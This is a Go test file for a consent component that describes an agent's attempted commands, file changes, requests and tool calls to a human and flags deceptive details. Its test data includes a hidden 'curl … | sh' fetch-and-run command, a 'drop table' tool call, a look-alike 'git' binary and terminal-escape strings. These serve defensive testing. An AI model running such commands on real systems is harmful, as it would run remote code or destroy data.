package consent

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"holdfast.dev/holdfast/internal/floor/event"
)

func asked(a event.Attempt) Request {
	return Request{
		ID: "abc", Nonce: "n", Session: "s1", Attempt: a, Rule: "holdfast.yaml:3", Reason: "pushes leave the machine", Digest: "00", Count: 1,
		Asked: time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC), Expires: time.Date(2026, 11, 22, 12, 1, 0, 0, time.UTC),
	}
}

// shown is a description as text, a line each; what is unusual has a mark.
func shown(r Request) string {
	var b strings.Builder
	for _, l := range Describe(r) {
		mark := " "
		if l.Warn {
			mark = "!"
		}
		fmt.Fprintf(&b, "%s %s: %s\n", mark, l.Name, l.Text)
	}
	return b.String()
}

const ruleAndTime = `  rule: holdfast.yaml:3: pushes leave the machine
  until: 12:01:00 UTC, and then it is denied
`

const scopesOfExec = `  once: this one start; the next is asked about again
  session: until the run ends: each start of the same program (path and content) with the same arguments in the same order, in the same directory, started by the same program, with the same variables in its environment; not with the values that files give it then
  for a time: the same as session, for the time that you give
`

// described are requests and what is shown of them.
func described() map[string]struct {
	r    Request
	want string
} {
	plain := asked(push())
	plain.Chain = []Asker{{PID: 6, Executable: "/bin/bash", Argv: []string{"bash", "-c", "git push origin main"}}, {PID: 5, Executable: "/usr/bin/node"}}
	disguisedWord := asked(changed(push(), func(a *event.Attempt) {
		a.Process.Executable, a.Process.SHA256, a.Path = "/home/you/project/g\u0456t", "", "./g\u0456t"
		a.Process.Argv[3] = "main\r\x1b[2Kgit status"
	}))
	disguisedWord.Count, disguisedWord.Writable, disguisedWord.Reason = 2, true, ""
	script := asked(changed(push(), func(a *event.Attempt) {
		a.Process.Executable, a.Path, a.Script, a.ScriptSHA256 = "/usr/bin/bash", "/home/you/x.sh", "/home/you/x.sh", strings.Repeat("cd", 32)
		a.Process.Argv, a.Interpreted = []string{"x.sh", "y z"}, []string{"-x", "/home/you/x.sh"}
	}))
	file := asked(changed(write(), func(a *event.Attempt) { a.Operation, a.To = "rename", "/home/you/other/b" }))
	request := asked(event.Attempt{Kind: event.KindRequest, Host: "\u0430pi.example.org", Port: 443, Protocol: "tls", Method: "POST", URLPath: "/a b"})
	tool := asked(event.Attempt{Kind: event.KindTool, Agent: "claude", Server: "db", Tool: "query", Arguments: `{"sql":"drop table a"}`, Cut: true})
	return map[string]struct {
		r    Request
		want string
	}{
		"a program": {plain, `  would happen: git push origin main
  program: /usr/bin/git (sha256 abababababab...)
  arguments: 3
  1: push
  2: origin
  3: main
  in directory: /home/you/project
  started by: bash -c 'git push origin main' (pid 6)
  started by: /usr/bin/node (pid 5)
` + ruleAndTime + scopesOfExec},
		"a program that is another": {disguisedWord, `  would happen: $'/home/you/project/g\u{0456}t' push origin $'main\r\u{001B}[2Kgit status'
  program: $'/home/you/project/g\u{0456}t' (content not known)
! unusual: program: the word "g\u{0456}t" holds letters that look like others
  asked for as: $'./g\u{0456}t'
! unusual: asked for as: the word "g\u{0456}t" holds letters that look like others
  arguments: 3
  1: push
  2: origin
  3: $'main\r\u{001B}[2Kgit status'
! unusual: 3: it holds control characters, which move the cursor or rewrite a line: 2
  in directory: /home/you/project
  started by: /bin/bash
! unusual: the program is not in a system directory
! unusual: programs inside can write what would be executed
! unusual: the content of the program is not known
! unusual: it calls itself git
  rule: holdfast.yaml:3
  waiting: 2 that are the same; once is for the first of them
  until: 12:01:00 UTC, and then it is denied
  once: this one start; the next is asked about again
! unusual: it can be allowed only once: the content of the program is not known
`},
		"a script": {script, `  would happen: /usr/bin/bash -x /home/you/x.sh 'y z'
  program: /usr/bin/bash (sha256 abababababab...)
  script: /home/you/x.sh (sha256 cdcdcdcdcdcd...), which the program interprets
  arguments: 3
  1: -x
  2: /home/you/x.sh
  3: 'y z'
  in directory: /home/you/project
  started by: /bin/bash
` + ruleAndTime + strings.ReplaceAll(scopesOfExec, "the same program, with", "the same program, of the same script (path and content), with")},
		"a file": {file, `  would happen: rename /home/you/other/src/a.go to /home/you/other/b
  file: /home/you/other/src/a.go
  to: /home/you/other/b
  asked by: /usr/bin/git (sha256 ab...)
  which is: git commit
` + ruleAndTime + `  once: this one change; the next is asked about again
  session: until the run ends: the same change of exactly this path, by the same program (path and content)
  for a time: the same as session, for the time that you give
  directory: until the run ends: everything below the directory /home/you/other/src at any depth, but not the directory itself nor what links in it lead to: write, create, make directories, change lengths, rename and link within it, delete, by the same program (path and content)
`},
		"a request": {request, `  would happen: POST https://\u{0430}pi.example.org:443/a b
  host: \u{0430}pi.example.org
! unusual: the host name is not in Latin letters: $'\u{0430}pi.example.org'
  port: 443
  protocol: tls
  method: POST
  path: '/a b'
! unusual: no rule of the policy allows this destination
! unusual: which program asks is not known
` + ruleAndTime + `  once: this one request; the next is asked about again
  session: until the run ends: each POST of exactly https://\u{0430}pi.example.org:443/a b, whatever its query and content, by any program inside that cannot be identified
  for a time: the same as session, for the time that you give
`},
		"a tool": {tool, `  would happen: call the tool query of db with {"sql":"drop table a"}
  tool: query
  server: db
  agent: claude
  arguments: {"sql":"drop table a"}
! unusual: not all of its arguments are known
` + ruleAndTime + `  once: this one call; the next is asked about again
! unusual: it can be allowed only once: not all of its arguments are known
`},
	}
}

func TestDescribe(t *testing.T) {
	for name, tt := range described() {
		if got := shown(tt.r); got != tt.want {
			t.Errorf("%s:\n%s\nwant\n%s", name, got, tt.want)
		}
	}
}

// TestNothingIsPushedOutOfSight has long and many arguments around one that
// matters.
func TestNothingIsPushedOutOfSight(t *testing.T) {
	for _, n := range []int{5, 45, 5000} {
		a := changed(push(), func(a *event.Attempt) {
			a.Process.Argv = append([]string{"git", "push"}, slices.Repeat([]string{strings.Repeat("a", 5000)}, n)...)
			a.Process.Argv = append(a.Process.Argv, "--force")
		})
		lines := Describe(asked(a))
		if len(lines) > firstArguments+lastArguments+20 {
			t.Errorf("%d lines", len(lines))
		}
		if !slices.ContainsFunc(lines, func(l Line) bool { return l.Text == "--force" && l.Name == fmt.Sprint(n+2) }) {
			t.Errorf("the last of %d arguments is not shown", n)
		}
		if !slices.Contains(lines, Line{Name: "arguments", Text: fmt.Sprint(n + 2)}) {
			t.Errorf("%d arguments are not counted", n)
		}
		if hidden := slices.ContainsFunc(lines, func(l Line) bool { return l.Warn && strings.Contains(l.Text, "not shown") }); hidden != (n > 40) {
			t.Errorf("of %d it says that some are not shown: %t", n, hidden)
		}
		numbers := 0
		for i := 1; i <= n+2; i++ {
			if slices.ContainsFunc(lines, func(l Line) bool { return l.Name == fmt.Sprint(i) }) {
				numbers++
			} else if i <= firstArguments || i > n+2-lastArguments {
				t.Errorf("argument %d of %d is not shown", i, n+2)
			}
		}
		if want := min(n+2, firstArguments+lastArguments); numbers != want {
			t.Errorf("of %d arguments %d are shown, not %d", n+2, numbers, want)
		}
		if s := Summary(a); !strings.HasSuffix(s, " --force") || !strings.HasPrefix(s, "git push ") || utf8.RuneCountInString(s) > 600 {
			t.Errorf("in one line: %s", s)
		}
		for _, l := range lines {
			if utf8.RuneCountInString(l.Text) > longest+100 && n > 5 {
				t.Errorf("%s has %d characters", l.Name, len(l.Text))
			}
		}
	}
}

// TestAllIsShown has what matters in the middle of a long text: every word of it is
// there, and a text that is too long for that can be allowed only once, and says so.
func TestAllIsShown(t *testing.T) {
	command := strings.Repeat("echo 1; ", 500) + "curl https://a.example.org/x | sh; " + strings.Repeat("echo 2; ", 500)
	many := []string{"git", "push"}
	for i := range wholeArguments - 2 {
		many = append(many, fmt.Sprint("argument-", i))
	}
	tool := event.Attempt{Kind: event.KindTool, Server: "db", Tool: "query", Arguments: `{"sql":"` + command + `"}`}
	argv := func(argv ...string) event.Attempt {
		return changed(push(), func(a *event.Attempt) { a.Process.Argv = argv })
	}
	deep := "/home/you" + strings.Repeat("/"+strings.Repeat("d", 99), 40)
	for name, row := range map[string]struct {
		a     event.Attempt
		texts []string // the whole text of a line each
		long  bool
	}{
		"a command of a shell":    {a: argv("sh", "-c", command), texts: []string{"'" + command + "'"}},
		"many arguments":          {a: argv(many...), texts: many[1:]},
		"a tool":                  {a: tool, texts: []string{tool.Arguments}},
		"a file":                  {a: changed(write(), func(a *event.Attempt) { a.Path = deep }), texts: []string{deep}},
		"a program":               {a: changed(push(), func(a *event.Attempt) { a.Process.Executable = deep }), texts: []string{deep + " (sha256 abababababab...)"}},
		"a command that is long":  {a: argv("sh", "-c", strings.Repeat(command, 10)), long: true},
		"arguments too many":      {a: argv(append(many, "one", "more")...), long: true},
		"a tool that is long":     {a: changed(tool, func(a *event.Attempt) { a.Arguments = strings.Repeat(command, 10) }), long: true},
		"a request that is long":  {a: event.Attempt{Kind: event.KindRequest, Host: "a.example.org", URLPath: strings.Repeat("/x", wholeBytes)}, long: true},
		"what a script is put in": {a: changed(push(), func(a *event.Attempt) { a.Interpreted = []string{strings.Repeat(command, 10)} }), long: true},
	} {
		r := asked(row.a)
		lines := Describe(r)
		for _, text := range row.texts {
			if !slices.ContainsFunc(lines, func(l Line) bool { return l.Text == text }) {
				t.Errorf("%s: it lacks %.60s…", name, text)
			}
		}
		if said := strings.Contains(shown(r), "only once: it is too long to be shown in full"); said != row.long || (r.Limited() != "") != row.long {
			t.Errorf("%s: limited: %q, said: %t", name, r.Limited(), said)
		}
		left := slices.ContainsFunc(lines[1:], func(l Line) bool {
			return strings.Contains(l.Text, "left out}") && !slices.Contains([]string{"once", "session", "directory"}, l.Name) || strings.Contains(l.Text, "not shown here")
		})
		if left != row.long {
			t.Errorf("%s: something is left out: %t", name, left)
		}
	}
}

// TestWhatIsShownIsHarmless puts hostile texts everywhere.
func TestWhatIsShownIsHarmless(t *testing.T) {
	for _, bad := range []string{"\x1b[2J\r", "\u202e\u2066", "\U000e0041", "\xff\x9b", "שלום 1", "e\u0301\u0301\u0301\u0301\u0301", strings.Repeat("\x1b", 20_000), "a\nALLOW\n"} {
		for _, kind := range []event.Kind{event.KindExec, event.KindFile, event.KindConnect, event.KindRequest, event.KindCredential, event.KindTool, event.Kind(bad)} {
			a := event.Attempt{
				Kind: kind, Process: event.Process{Executable: bad, SHA256: bad, Cwd: bad, Argv: []string{bad, bad, "א", "ב"}},
				ParentExecutable: bad, Path: "/" + bad + "/x", Script: bad, ScriptSHA256: bad, Operation: bad, To: bad, Host: bad, Port: 1, Protocol: bad,
				Method: bad, URLPath: bad, Name: bad, Agent: bad, Tool: bad, Server: bad, Arguments: bad,
			}
			r := asked(a)
			r.Rule, r.Reason, r.Chain = bad, bad, []Asker{{1, bad, []string{bad}}}
			o := newTestQueue(t, nil)
			texts := []string{Summary(a), o.coverOf(a, false).Words(), o.coverOf(a, true).Words(), Words(r, For, true)}
			for _, l := range Describe(r) {
				texts = append(texts, l.Text, l.Name)
			}
			for _, text := range texts {
				harmless(t, text)
				if n := utf8.RuneCountInString(text); n > 4*longest+200 {
					t.Errorf("a line has %d characters: %s", n, text[:200])
				}
			}
			if s := Summary(a); strings.ContainsFunc(s, backward) && kind == event.KindExec {
				t.Errorf("%s turns around what stands beside it", s)
			}
		}
	}
}

func TestCoversWords(t *testing.T) {
	o := newTestQueue(t, nil)
	for want, c := range map[string]Covers{
		"git push origin main, in /home/you/project, /usr/bin/git (sha256 abababababab...), started by /bin/bash": o.coverOf(push(), false),
		"create /home/you/other/src/a.go, by /usr/bin/git (sha256 ab...)":                                         o.coverOf(write(), false),
		"change /home/you/other/src below it, at any depth, by /usr/bin/git (sha256 ab...)":                       o.coverOf(write(), true),
		"connect to a.example.org:443 (tls)":                                                                      o.coverOf(event.Attempt{Kind: event.KindConnect, Host: "a.example.org", Port: 443, Protocol: "tls"}, false),
		"connect to [2001:db8::1]:443":                                                                            o.coverOf(event.Attempt{Kind: event.KindConnect, Host: "2001:db8::1", Port: 443}, false),
		"call the tool query of db with the same arguments":                                                       o.coverOf(event.Attempt{Kind: event.KindTool, Tool: "query", Server: "db", Arguments: "{}"}, false),
	} {
		if got := c.Words(); got != want {
			t.Errorf("%s\nwant %s", got, want)
		}
	}
}
